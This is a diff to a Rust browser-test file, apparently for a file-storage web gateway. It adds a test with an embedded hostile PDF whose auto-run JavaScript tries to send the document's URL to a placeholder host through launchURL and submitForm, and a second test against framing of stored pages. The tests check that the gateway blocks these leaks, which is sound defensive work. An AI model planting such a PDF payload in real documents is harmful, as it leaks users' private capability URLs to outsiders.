@@ -127,6 +127,44 @@ fn files_are_what_their_names_say() {
     }
 }
 
+/// A document that tries to tell its address as soon as it is opened, and is a link all over.
+const DOCUMENT: &str = "%PDF-1.4\n\
+    1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n\
+    2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n\
+    3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 600]/Annots[<</Type/Annot/Subtype/Link\
+    /Border[0 0 9]/Rect[0 0 600 600]/A<</S/URI/URI(HOST/left)>>>>]>>endobj\n\
+    4 0 obj<</S/JavaScript/JS(app.launchURL\\(\"HOST/got/launched?\" + this.URL\\); \
+    this.submitForm\\(\"HOST/got/sent\"\\);)>>endobj\n\
+    trailer<</Root 1 0 R>>\n";
+
+#[test]
+fn stored_documents_tell_nothing() {
+    let grid = grid();
+    let directory = directory(&grid);
+    let hostile = Hostile::serve(&[("/control.pdf", DOCUMENT), ("/left", "<title>left</title>")]);
+    let page = Page::of(grid.gateway(0));
+    let mut places = places(
+        grid.gateway(0),
+        &directory,
+        "a.pdf",
+        &DOCUMENT.replace("HOST", &hostile.url("")),
+    );
+    places.insert(0, hostile.url("/control.pdf"));
+    for place in places {
+        page.open(&place);
+        let before = hostile.heard("/left").len();
+        // Nothing tells when the viewer is ready.
+        tahoe_test_support::wait_until("the document's link can be clicked", || {
+            page.click_at(&json!(700), &json!(300));
+            hostile.heard("/left").len() > before
+        });
+        page.wait_for("document.title == 'left'");
+        let left = hostile.heard("/left").pop().unwrap();
+        assert!(!left.contains("Referer") && !left.contains("URI"), "{left}");
+    }
+    assert_eq!(hostile.heard("/got").len(), 0);
+}
+
 /// A page with a form for somebody else's site.
 fn foreign_form(target: &str, encoding: &str) -> String {
     html(&format!(
@@ -295,7 +333,14 @@ fn our_pages_are_not_shown_within_others() {
     let shown = page.frames();
     assert_eq!(shown[0], hostile.url("/control"));
     assert_eq!(shown.len(), framed.len() + 1);
-    for (url, path) in shown[1..].iter().zip(&framed) {
+    // Nor within a page that the grid holds.
+    let stored = node.put(frames.as_bytes()).replace(':', "%3A");
+    page.open(&format!("/file/{stored}/@@named=/a.html"));
+    for (url, path) in shown[1..]
+        .iter()
+        .zip(&framed)
+        .chain(page.frames()[1..].iter().zip(&framed))
+    {
         assert_eq!(url, "chrome-error://chromewebdata/", "{path}");
     }
 }
